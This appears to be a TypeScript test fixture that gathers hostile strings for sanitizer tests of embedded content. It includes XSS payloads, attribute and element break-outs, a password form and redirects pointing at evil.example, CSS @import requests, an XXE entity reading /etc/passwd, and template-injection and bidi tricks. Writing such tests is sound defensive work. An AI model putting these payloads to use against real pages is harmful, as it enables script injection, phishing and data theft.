/** Attacks on HTML sanitizers and on the contexts of texts in embeds, for all tests of embeds. */
import { xssPayloads } from '../../core/sanitize/xss-payloads.ts'
import { hostileAddresses, hostileWebAddresses } from './hostile-addresses.ts'

/** Close the elements around the text. */
const ends = [
  ...['</a></h3></li></ul></section><script>alert(1)</script>', '</span></h3><h1>Breaking</h1>'],
  ...[
    '</bdi><img src=x onerror=alert(1)>',
    '</figcaption></figure><iframe src=//evil.example></iframe>',
  ],
  ...['</style><script>alert(1)</script>', '</script><script>alert(1)</script>'],
  ...['</title></head><body onload=alert(1)>', '</body></html><script>alert(1)</script>'],
  ...['</p><p class="candor-label">Written by humans alone:</p>', '<plaintext>'],
  ...['<slot name="x"><img src=//evil.example/slot></slot>'],
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  ...[
    '<slot name="x"><style>.candor-label{display:none}</style>',
    '<base href="https://evil.example/">',
  ],
  ...['<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ...['<link rel="stylesheet" href="https://evil.example/x.css">'],
  ...['<form action="https://evil.example/"><input name="password">'],
  '<button popovertarget="x" onclick=alert(1)>x</button>',
  ...['<object data="https://evil.example/x.swf"></object><embed src="//evil.example">'],
  ...['<portal src="https://evil.example/"></portal><fencedframe></fencedframe>'],
  '<svg><set attributeName=href to=javascript:alert(1) /></svg>',
  ...['<a href="https://evil.example/" target="_top">Read on</a>'],
  '<a id=location><a id=location name=hash href="cid:x">',
  '</title></textarea></noscript></template></iframe><svg onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  ...[
    '<object data="//evil.example/o"></object><embed src="//evil.example/e"><link rel=stylesheet href="//evil.example/l">',
  ],
  ...['<meta http-equiv=refresh content="0;url=//evil.example/m"><base href="//evil.example/">'],
  ...['<style>@import "//evil.example/i";*{background:url(//evil.example/b)}</style>'],
  ...['<candor-headlines src="//evil.example/feed.json"></candor-headlines>'],
  ...['<form action="//evil.example/f"><input autofocus onfocus=alert(1)></form>'],
]

/** Close the attribute around the text. */
const attributes = [
  '"><script>alert(1)</script>',
  `'><script>alert(1)</script>`,
  '" onmouseover="alert(1)',
  `' onmouseover='alert(1)`,
  ...['` onmouseover=`alert(1)', '" onerror=alert(1) src=x "', '" autofocus onfocus=alert(1) x="'],
  ...['" style="position:fixed;inset:0" x="', '" srcset="https://evil.example/x 2x" x="'],
  '" srcdoc="<script>alert(1)</script>" x="',
  '"/><img src=x onerror=alert(1)><x y="',
  '\u0000" onclick="alert(1)',
  ...['&quot; onclick=&quot;alert(1)', '&#34; onclick=&#34;alert(1)'],
  '&#x22;&#x3e;&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
  '"><img src=x onerror="alert(1)">',
  `'><img src=x onerror='alert(1)'>`,
  '`><img src=x onerror=`alert(1)`>',
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" tabindex="0',
  `' style='animation:x' onanimationstart='alert(1)'`,
]

/** References, comments and other encodings. */
const references = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '&ltscript&gtalert(1)&lt/script&gt',
  ...['&nosuch; &copy &notit; &#0; &#x110000; &#128;', '<!-- <script>alert(1)</script>'],
  '--><script>alert(1)</script><!--',
  '--!><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  ...[']]><script>alert(1)</script>', '<?xml version="1.0"?><?php echo 1 ?>'],
  ...[
    '<!doctype html><html><body><script>alert(1)</script>',
    '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  ],
  '<% alert(1) %> {{constructor.constructor("alert(1)")()}} \u0024{alert(1)} #{1} [[x]] @{x}',
  "{title} $& $1 $$ $` $' \\u003cscript\\u003e",
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cscript>',
]

/**
 * Characters that look like markup, are invisible, change the direction, or are too many or none.
 */
const letters = [
  '＜script＞alert(1)＜/script＞',
  '\u2039script\u203aalert(1)\u02c2/script\u02c3',
  '<\u0000script>alert(1)</script>',
  '<\u00adscript>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '\u202e>tpircs/<)1(trela>tpircs<\u202c',
  ...['\u2066\u2067\u202d\u202emore\u2069', '\ud800<script>alert(1)</script>\udfff'],
  '\ufffe\uffff\u0001\u001f\u007f\u0085\u00a0\u2028\u2029',
  'one\rtwo\r\nthree\n\tfour \f five',
  `${'<b>'.repeat(600)}deep`,
  `${'<'.repeat(2000)}`,
  '\u202emoc.rednac\u202c',
  '\u2066\u2067\u2068\u2069\u200e\u200f\u061c',
  'Ọ'.repeat(10) + '\u0300'.repeat(500),
  ...['\u0000\u0001\u0008\u001f\u007f\u0085', '\ud800', '\udc00\ud800', '\ufffe\uffff'],
  ...['\u2028\u2029\u00ad\u200b\u200d\ufeff', '\u{e0001}\u{e0041}😀👩‍👩‍👧'],
  '﷽'.repeat(300),
  'x'.repeat(100_000),
  '<b>'.repeat(20_000),
  '\n'.repeat(5000),
  ' ',
  '\t',
]

/** CSS. */
const styles = [
  ...['@import url(https://evil.example/x.css);}*{display:none', '}*{display:none!important}'],
  ...[';background:url(//evil.example/s);', 'url("javascript:alert(1)")', 'expression(alert(1))'],
  ...[
    '@import url(//evil.example/s2);',
    '--candor-label-color:transparent',
    'position:fixed;inset:0',
    'candor-label',
  ],
]

/** Keywords and templates of programs. */
const expressions = [
  '{{constructor.constructor("alert(1)")()}}',
  '\u0024{alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  ...['{title}', '{date}', '{reviewed_by}', '$&', "$'", '$`', '%s%n', '%o'],
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'en-__proto__', 'valueOf'],
  'ai-autonomous',
  'ai-assisted',
  'human-only',
  'canceled',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e999',
  ...['275761-01-01T00:00:00Z', '0000-00-00'],
]

/**
 * An attack that leaves its element, attribute, style or script calls `alert` or requests
 * evil.example. Includes addresses as texts.
 */
export const hostileTexts: readonly string[] = [
  ...xssPayloads,
  ...ends,
  ...attributes,
  ...references,
  ...letters,
  ...styles,
  ...expressions,
  ...hostileAddresses,
  ...hostileWebAddresses,
]
